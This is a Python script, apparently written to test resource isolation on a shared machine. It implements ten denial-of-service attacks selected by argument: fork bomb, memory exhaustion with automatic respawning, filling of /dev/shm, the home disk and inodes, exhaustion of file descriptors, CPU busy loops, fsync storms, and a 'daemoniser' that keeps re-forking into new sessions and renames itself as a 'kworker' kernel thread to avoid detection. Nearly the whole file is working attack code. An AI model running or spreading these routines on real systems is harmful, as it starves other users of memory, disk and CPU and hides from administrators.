#!/usr/bin/python3
"""What one user's job may do to everybody else: attack KIND, until it is ended."""

import ctypes
import os
import sys
import time

PAGE = b"x" * 4096
MIB = 1 << 20


def children(count, work):
    for _ in range(count):
        if os.fork() == 0:
            work()
            os._exit(0)


def again(work):
    """Whoever is ended is started again, as a job that somebody restarts."""
    while True:
        child = os.fork()
        if child == 0:
            work()
            os._exit(0)
        os.waitpid(child, 0)


def eat(step=8 * MIB):
    held = []
    try:
        while True:
            held.append(bytearray(b"x") * step)
    except MemoryError:
        time.sleep(3600)


def tree():
    children(40, lambda: again(lambda: eat(MIB)))


def fill(directory, size):
    count = 0
    while True:
        try:
            with open(f"{directory}/attack.{os.getpid()}.{count}", "wb", buffering=0) as file:
                for _ in range(size // MIB):
                    file.write(PAGE * 256)
        except OSError:
            time.sleep(0.1)
        count += 1


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def loop():
    while True:
        pass


def fsync():
    with open(f"{os.path.expanduser('~')}/attack.{os.getpid()}", "wb", buffering=0) as file:
        while True:
            file.seek(0)
            file.write(PAGE)
            os.fsync(file.fileno())


def inodes():
    home, count = os.path.expanduser("~"), 0
    os.makedirs(f"{home}/attack", exist_ok=True)
    while True:
        try:
            os.close(os.open(f"{home}/attack/{os.getpid()}.{count}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            time.sleep(0.1)
        count += 1


def files():
    import resource

    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = []
    while True:
        try:
            held.append(os.open("/dev/null", os.O_RDONLY))
        except OSError:
            time.sleep(0.1)


def daemon():
    """Somebody else at every look: a new process, a new session, a new name."""
    libc, count = ctypes.CDLL(None), 0
    held = bytearray(b"x") * (16 * MIB)
    while held:
        end = time.monotonic() + 0.3
        while time.monotonic() < end:
            pass
        count += 1
        try:
            if os.fork():
                os._exit(0)
            os.setsid()
        except OSError:
            continue
        libc.prctl(15, f"kworker/{count % 10}:{os.getpid() % 100}".encode(), 0, 0, 0)


KINDS = {
    "memory-eater": lambda: again(eat),
    "memory-tree": tree,
    "shm-filler": lambda: fill("/dev/shm", 64 * MIB),
    "fork-bomb": bomb,
    "busy-loops": lambda: children(64, loop),
    "fsync-writers": lambda: children(8, fsync),
    "disk-filler": lambda: fill(os.path.expanduser("~"), 256 * MIB),
    "inode-filler": inodes,
    "open-files": lambda: children(40, files),
    "daemoniser": lambda: children(16, daemon),
}

if __name__ == "__main__":
    os.chdir("/")
    KINDS[sys.argv[1]]()
    time.sleep(3600)
